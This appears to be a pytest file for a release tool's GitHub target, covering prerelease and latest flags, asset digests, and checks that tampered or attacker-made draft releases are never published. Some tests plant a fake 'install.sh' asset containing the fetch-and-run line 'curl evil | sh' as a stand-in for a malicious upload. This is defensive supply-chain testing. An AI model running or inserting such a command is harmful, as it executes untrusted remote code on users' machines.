"""github target: flags (prerelease, make_latest), digests, and status/publish on a stub repo."""

from __future__ import annotations

import hashlib
import itertools
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from github import GithubException

from valet.config import Config
from valet.errors import ConflictError, IntegrityError, TargetError
from valet.targets.base import State
from valet.targets.github import (
    GitHubTarget,
    asset_sha256,
    is_prerelease_version,
    make_latest,
    parse_asset_digest,
)

from .ctx import make_ctx

_ids = itertools.count(100)


@pytest.mark.parametrize(("version", "others", "prefix", "expected"), [
    ("1.2.3", [], "", "true"),
    ("1.2.3", ["1.2.2", "v1.0.0"], "", "true"),
    ("1.2.3", ["1.3.0"], "", "false"),
    ("1.2.3", ["2.0.0-rc.1"], "", "true"),  # pre-releases never count as "higher"
    ("2.0.0-rc.1", [], "", "false"),
    ("1.2.3", ["sdk/9.0.0", "v1.0.0"], "v", "true"),  # other packages' tags do not count
    ("1.2.3", ["v1.9.0"], "v", "false"),
    ("not-a-version", [], "", "false"),
])
def test_make_latest(version: str, others: list[str], prefix: str, expected: str) -> None:
    assert make_latest(version, others, prefix=prefix) == expected


@pytest.mark.parametrize(("version", "pre"), [
    ("1.2.3", False), ("1.2.3-rc.1", True), ("1.2.3+build.5", False), ("2.0.0-alpha", True),
])
def test_prerelease_from_the_version(version: str, pre: bool) -> None:
    assert is_prerelease_version(version) is pre


def test_asset_digest_field() -> None:
    assert parse_asset_digest("sha256:" + "AB" * 32) == "ab" * 32
    assert parse_asset_digest("sha512:" + "ab" * 32) is None
    assert parse_asset_digest(None) is None
    assert parse_asset_digest("sha256:zz") is None


def test_asset_without_digest_is_hashed_while_streamed() -> None:
    asset = SimpleNamespace(name="x", digest=None,
                            download_asset=lambda chunk_size: (200, {}, iter([b"ab", b"c"])))
    assert asset_sha256(asset) == hashlib.sha256(b"abc").hexdigest()


# -- a stub of the few PyGithub calls the target makes -----------------------------


class StubAsset:
    def __init__(self, release: StubRelease, name: str, data: bytes) -> None:
        self.release, self.name, self.data = release, name, data
        self.digest = "sha256:" + hashlib.sha256(data).hexdigest()
        self.state = "uploaded"
        self.size = len(data)

    def delete_asset(self) -> bool:
        self.release.assets.remove(self)
        return True


class StubRelease:
    def __init__(self, repo: StubRepo, tag: str, *, draft: bool, prerelease: bool = False,
                 body: str = "", title: str | None = None) -> None:
        self.repo, self.id, self.tag_name = repo, next(_ids), tag
        self.draft, self.prerelease, self.body, self.name = draft, prerelease, body, title or tag
        self.assets: list[StubAsset] = []
        self.updates: list[dict[str, Any]] = []
        self.on_update: Any = None  # runs at the PATCH (someone acting at that moment)

    @property
    def html_url(self) -> str:
        return f"https://gh/{self.repo.full_name}/releases/tag/{self.tag_name}"

    def get_assets(self) -> list[StubAsset]:
        self.repo.listings += 1
        return list(self.assets)

    @property
    def raw_data(self) -> dict[str, Any]:
        # what GitHub answers a PATCH with: the release, its assets listed inside
        return {"id": self.id, "assets": [{"name": a.name, "state": a.state, "size": a.size,
                                           "digest": a.digest} for a in self.assets]}

    def upload_asset(self, path: str, name: str, content_type: str) -> StubAsset:
        asset = StubAsset(self, name, Path(path).read_bytes())
        self.assets.append(asset)
        self.repo.calls.append(("upload", name))
        return asset

    def update_release(self, **kw: Any) -> StubRelease:
        self.updates.append(kw)
        if self.on_update is not None:
            self.on_update()
        self.tag_name = kw.get("tag_name", self.tag_name)
        self.repo.calls.append(("update", self.tag_name))
        self.draft, self.body = kw["draft"], kw["message"]
        self.prerelease = kw.get("prerelease", self.prerelease)
        if not self.draft:
            self.repo.tags.setdefault(self.tag_name, kw["target_commitish"])
        return self


class StubRepo:
    def __init__(self, full_name: str = "acme/sdk") -> None:
        self.full_name = full_name
        self.releases: list[StubRelease] = []
        self.tags: dict[str, str] = {}
        self.calls: list[tuple[str, str]] = []
        self.listings = 0  # asset listings read (get_assets)

    def get_releases(self) -> list[StubRelease]:
        return list(self.releases)

    def get_release(self, rid: int) -> StubRelease:
        for r in self.releases:
            if r.id == rid:
                return r
        raise GithubException(404, {"message": "Not Found"}, None)

    def get_git_ref(self, ref: str) -> Any:
        sha = self.tags.get(ref.removeprefix("tags/"))
        if sha is None:
            raise GithubException(404, {"message": "Not Found"}, None)
        return SimpleNamespace(object=SimpleNamespace(type="commit", sha=sha))

    def create_git_ref(self, ref: str, sha: str) -> Any:
        tag = ref.removeprefix("refs/tags/")
        if tag in self.tags:
            raise GithubException(422, {"message": "Reference already exists"}, None)
        self.tags[tag] = sha
        self.calls.append(("tag", tag))
        return SimpleNamespace(ref=ref, object=SimpleNamespace(type="commit", sha=sha))

    def create_git_release(self, tag: str, name: str, message: str, **kw: Any) -> StubRelease:
        rel = StubRelease(self, tag, draft=kw["draft"], body=message, title=name)
        self.releases.append(rel)
        self.calls.append(("create", tag))
        return rel

    def add(self, tag: str, *, draft: bool, prerelease: bool = False,
            files: dict[str, bytes] | None = None) -> StubRelease:
        rel = StubRelease(self, tag, draft=draft, prerelease=prerelease)
        for name, data in (files or {}).items():
            rel.assets.append(StubAsset(rel, name, data))
        self.releases.append(rel)
        if not draft:
            self.tags[tag] = "f" * 40
        return rel


@pytest.fixture(autouse=True)
def _uploads_through_the_stub(monkeypatch: pytest.MonkeyPatch) -> None:
    """The target streams assets over its own session (tests/sandbox covers that); here
    each lands on the stub release, one by one."""
    import valet.targets.github as target

    def upload(ctx: Any, release: StubRelease, names: list[str]) -> None:
        for name in names:
            release.upload_asset(str(ctx.files[name]), name=name,
                                 content_type="application/octet-stream")

    monkeypatch.setattr(target, "upload_assets", upload)


class StubGithub:
    def __init__(self, repo: StubRepo) -> None:
        self.repo = repo

    def get_repo(self, name: str) -> StubRepo:
        assert name == self.repo.full_name
        return self.repo


SHA = "c" * 40


def _files(tmp_path: Path) -> list[Path]:
    tmp_path.mkdir(parents=True, exist_ok=True)
    out = []
    for name, data in (("acme-1.2.3.tgz", b"npm"), ("acme-1.2.3.tar.gz", b"sdist")):
        p = tmp_path / name
        p.write_bytes(data)
        out.append(p)
    return out


def _ctx(tmp_path: Path, repo: StubRepo, version: str = "1.2.3", **kw: Any):
    return make_ctx(tmp_path, _files(tmp_path), name="github", version=version, sha=SHA,
                    github=StubGithub(repo), changelog="### Fixes\n- a bug\n",
                    config=Config(tag_prefix="v"), **kw)


def test_draft_is_published_with_flags(tmp_path: Path) -> None:
    repo = StubRepo()
    repo.add("v1.0.0", draft=False)
    repo.add("v2.0.0-rc.1", draft=False, prerelease=True)
    draft = repo.add("v1.2.3", draft=True, files={"acme-1.2.3.tgz": b"npm",
                                                  "acme-1.2.3.tar.gz": b"sdist"})
    ctx = _ctx(tmp_path, repo, release_id=draft.id)
    target = GitHubTarget()
    target.preflight(ctx)
    assert target.status(ctx).state is State.ABSENT
    receipt = target.publish(ctx)
    assert draft.updates == [{"name": "v1.2.3", "message": "### Fixes\n- a bug\n", "draft": False,
                              "prerelease": False, "tag_name": "v1.2.3", "target_commitish": SHA,
                              "make_latest": "true"}]
    assert ("upload", "acme-1.2.3.tgz") not in repo.calls  # already in the draft
    assert receipt.url == draft.html_url
    assert set(receipt.digests) == {"acme-1.2.3.tgz", "acme-1.2.3.tar.gz"}
    # re-run: published, nothing changes
    status = target.status(ctx)
    assert status.state is State.PUBLISHED and status.receipt is not None
    calls = list(repo.calls)
    target.publish(ctx)
    assert repo.calls == calls


def test_lower_version_and_prerelease_are_not_latest(tmp_path: Path) -> None:
    repo = StubRepo()
    repo.add("v1.5.0", draft=False)
    old = repo.add("v1.2.3", draft=True)
    GitHubTarget().publish(_ctx(tmp_path / "a", repo, release_id=old.id))
    assert old.updates[-1]["make_latest"] == "false" and old.updates[-1]["prerelease"] is False
    pre = repo.add("v2.0.0-rc.1", draft=True)
    GitHubTarget().publish(_ctx(tmp_path / "b", repo, version="2.0.0-rc.1", release_id=pre.id))
    assert pre.updates[-1]["make_latest"] == "false" and pre.updates[-1]["prerelease"] is True


def test_missing_assets_are_uploaded_and_no_draft_means_one_is_created(tmp_path: Path) -> None:
    repo = StubRepo()
    ctx = _ctx(tmp_path, repo)  # no release_id, no draft: the workflow-artifacts store
    assert GitHubTarget().status(ctx).state is State.ABSENT
    GitHubTarget().publish(ctx)
    assert [c[0] for c in repo.calls] == ["create", "upload", "upload", "tag", "update"]
    (rel,) = repo.releases
    assert rel.draft is False and sorted(a.name for a in rel.assets) == sorted(ctx.files)


def test_published_with_other_asset_is_conflict(tmp_path: Path) -> None:
    repo = StubRepo()
    repo.add("v1.2.3", draft=False, files={"acme-1.2.3.tgz": b"EVIL",
                                           "acme-1.2.3.tar.gz": b"sdist"})
    repo.tags["v1.2.3"] = SHA
    ctx = _ctx(tmp_path, repo)
    assert GitHubTarget().status(ctx).state is State.CONFLICT
    with pytest.raises(ConflictError):
        GitHubTarget().publish(ctx)
    assert repo.calls == []


def test_someone_elses_release_without_our_assets_is_conflict(tmp_path: Path) -> None:
    repo = StubRepo()
    repo.add("v1.2.3", draft=False)
    repo.tags["v1.2.3"] = SHA
    draft = repo.add("v1.2.3", draft=True)
    result = GitHubTarget().status(_ctx(tmp_path, repo, release_id=draft.id))
    assert result.state is State.CONFLICT and "without our assets" in result.detail


def test_tag_at_another_commit_is_conflict(tmp_path: Path) -> None:
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True)
    repo.tags["v1.2.3"] = "d" * 40
    result = GitHubTarget().status(_ctx(tmp_path, repo, release_id=draft.id))
    assert result.state is State.CONFLICT and "dddddddddddd" in result.detail


def test_a_tag_made_at_another_commit_after_the_status_is_refused_before_going_public(
        tmp_path: Path) -> None:
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True)
    ctx = _ctx(tmp_path, repo, release_id=draft.id)
    target = GitHubTarget()
    assert target.status(ctx).state is State.ABSENT  # no tag yet
    repo.tags["v1.2.3"] = "d" * 40  # someone with push access, while the others publish
    with pytest.raises(ConflictError, match="dddddddddddd"):
        target.publish(ctx)
    assert draft.draft and draft.updates == []  # never public on their commit


def test_the_tag_is_made_at_the_release_commit_then_the_release_goes_public(
        tmp_path: Path) -> None:
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True)
    GitHubTarget().publish(_ctx(tmp_path, repo, release_id=draft.id))
    assert [c for c in repo.calls if c[0] in ("tag", "update")] == [("tag", "v1.2.3"),
                                                                      ("update", "v1.2.3")]
    assert repo.tags["v1.2.3"] == SHA


def test_stage_fills_the_draft_and_publish_only_makes_it_public(tmp_path: Path) -> None:
    repo = StubRepo()
    ctx = _ctx(tmp_path, repo)  # the workflow-artifacts store: no draft yet
    target = GitHubTarget()
    assert target.status(ctx).state is State.ABSENT
    target.stage(ctx)
    assert [c[0] for c in repo.calls] == ["create", "upload", "upload"]
    (rel,) = repo.releases
    assert rel.draft  # nothing public yet
    target.publish(ctx)
    assert [c[0] for c in repo.calls] == ["create", "upload", "upload", "tag", "update"]
    assert rel.draft is False


def test_a_draft_holding_other_bytes_is_conflict(tmp_path: Path) -> None:
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True, files={"acme-1.2.3.tgz": b"NPM"})  # same size
    assert GitHubTarget().status(_ctx(tmp_path, repo, release_id=draft.id)).state \
        is State.CONFLICT


def test_release_id_of_another_tag_is_refused(tmp_path: Path) -> None:
    repo = StubRepo()
    other = repo.add("v9.9.9", draft=True)
    with pytest.raises(TargetError, match="is for tag"):
        GitHubTarget().status(_ctx(tmp_path, repo, release_id=other.id))


def test_preflight_needs_a_client_and_a_commit(tmp_path: Path) -> None:
    ctx = make_ctx(tmp_path, _files(tmp_path), name="github")
    with pytest.raises(TargetError) as info:
        GitHubTarget().preflight(ctx)
    assert "sdk-token" in str(info.value.hint)
    ctx2 = make_ctx(tmp_path, _files(tmp_path), name="github", github=object(), sha=None)
    with pytest.raises(TargetError, match="no release commit"):
        GitHubTarget().preflight(ctx2)


def test_destinations_are_the_api_host_and_the_sdk_repository(tmp_path: Path) -> None:
    from tests.unit.targets.ctx import make_ctx
    from valet.targets.base import Destination
    from valet.targets.github import GitHubTarget

    ctx = make_ctx(tmp_path, [], name="github", repo="acme/sdk")
    assert GitHubTarget().destinations(ctx) == [Destination("host", "api.github.com"),
                                                Destination("repository", "acme/sdk")]
    ghes = make_ctx(tmp_path, [], name="github", repo="acme/sdk",
                    env={"GITHUB_API_URL": "https://GHE.example.com/api/v3"})
    assert GitHubTarget().destinations(ghes)[0] == Destination("host", "ghe.example.com")


# -- the draft that goes public holds exactly the approved files -------------------------

APPROVED = {"acme-1.2.3.tgz": b"npm", "acme-1.2.3.tar.gz": b"sdist"}


def test_an_asset_added_after_the_check_is_never_made_public(tmp_path: Path) -> None:
    """install.sh lands on the draft after the store's check and the status, while the
    other targets publish: the draft is listed again right before the PATCH that makes
    it public, and it stays a draft."""
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
    ctx = _ctx(tmp_path, repo, release_id=draft.id)
    target = GitHubTarget()
    assert target.status(ctx).state is State.ABSENT
    target.stage(ctx)
    draft.assets.append(StubAsset(draft, "install.sh", b"curl evil | sh"))
    before = repo.listings
    with pytest.raises(IntegrityError, match="install.sh") as err:
        target.publish(ctx)
    assert "changed after the request" in err.value.message
    assert draft.draft and draft.updates == []
    assert repo.listings == before + 1  # looked again right before the PATCH, once


def test_the_last_listing_is_read_while_the_tag_is_made_then_the_patch(
        tmp_path: Path) -> None:
    """The draft's last listing and the tag's POST need nothing of each other: they are
    under way together (each call here waits, with a deadline, for the other to have
    started: one after the other would never see it), and the PATCH waits for both."""
    import threading

    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
    ctx = _ctx(tmp_path, repo, release_id=draft.id)
    target = GitHubTarget()
    assert target.status(ctx).state is State.ABSENT
    target.stage(ctx)
    listing, tagging = threading.Event(), threading.Event()
    seen: list[str] = []
    plain_list, plain_tag = draft.get_assets, repo.create_git_ref

    def get_assets() -> list[StubAsset]:
        listing.set()
        seen.append("listing saw the tag under way" if tagging.wait(10) else "listing alone")
        return plain_list()

    def create_git_ref(ref: str, sha: str) -> Any:
        tagging.set()
        seen.append("tag saw the listing under way" if listing.wait(10) else "tag alone")
        return plain_tag(ref, sha)

    draft.get_assets = get_assets  # type: ignore[method-assign]
    repo.create_git_ref = create_git_ref  # type: ignore[method-assign]
    draft.on_update = lambda: seen.append("patch")
    target.publish(ctx)
    assert sorted(seen[:2]) == ["listing saw the tag under way", "tag saw the listing under way"]
    assert seen[2:] == ["patch"] and repo.calls[-1] == ("update", "v1.2.3")


def test_an_asset_deleted_after_the_check_is_refused_before_going_public(
        tmp_path: Path) -> None:
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
    ctx = _ctx(tmp_path, repo, release_id=draft.id)
    target = GitHubTarget()
    target.status(ctx)
    target.stage(ctx)
    draft.assets = [a for a in draft.assets if a.name != "acme-1.2.3.tgz"]
    with pytest.raises(IntegrityError, match="lacks acme-1.2.3.tgz"):
        target.publish(ctx)
    assert draft.draft and draft.updates == []


def test_an_asset_added_during_the_patch_turns_the_release_back_into_a_draft(
        tmp_path: Path) -> None:
    """GitHub has no check-and-publish in one step: what lands between the last listing
    and the PATCH shows in the PATCH's answer, and the release goes back to draft."""
    repo = StubRepo()
    draft = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
    draft.on_update = lambda: draft.assets.append(StubAsset(draft, "install.sh", b"x")) \
        if not any(a.name == "install.sh" for a in draft.assets) else None
    with pytest.raises(IntegrityError, match="install.sh"):
        GitHubTarget().publish(_ctx(tmp_path, repo, release_id=draft.id))
    assert draft.draft is True and draft.updates[-1]["draft"] is True


def test_a_draft_someone_else_made_with_an_extra_asset_is_conflict(tmp_path: Path) -> None:
    """The workflow-artifacts store names no draft: the target would adopt one made for
    the tag by someone with write access, install.sh included."""
    repo = StubRepo()
    repo.add("v1.2.3", draft=True, files={**APPROVED, "install.sh": b"curl evil | sh"})
    result = GitHubTarget().status(_ctx(tmp_path, repo))
    assert result.state is State.CONFLICT and "install.sh" in result.detail
    with pytest.raises(ConflictError, match="install.sh"):
        GitHubTarget().publish(_ctx(tmp_path / "b", repo))
    assert all(r.draft for r in repo.releases)


def test_the_recorded_draft_gone_is_refused_never_another_draft_of_the_tag(
        tmp_path: Path) -> None:
    """Drafts may share a tag: with the recorded one deleted, an attacker's second draft
    holding other bytes is not published instead."""
    repo = StubRepo()
    repo.add("v1.2.3", draft=True, files={n: b"E" * len(d) for n, d in APPROVED.items()})
    ctx = _ctx(tmp_path, repo, release_id=424242)
    with pytest.raises(IntegrityError, match="424242"):
        GitHubTarget().status(ctx)
    with pytest.raises(IntegrityError, match="424242"):
        GitHubTarget().publish(_ctx(tmp_path / "b", repo, release_id=424242))
    assert all(r.draft and r.updates == [] for r in repo.releases)
    assert not [c for c in repo.calls if c[0] in ("create", "upload", "tag", "update")]


def test_the_recorded_draft_is_published_not_another_draft_of_the_tag(tmp_path: Path) -> None:
    repo = StubRepo()
    evil = repo.add("v1.2.3", draft=True, files={n: b"E" * len(d) for n, d in APPROVED.items()})
    mine = repo.add("v1.2.3", draft=True, files=dict(APPROVED))
    GitHubTarget().publish(_ctx(tmp_path, repo, release_id=mine.id))
    assert mine.draft is False and evil.draft is True and evil.updates == []
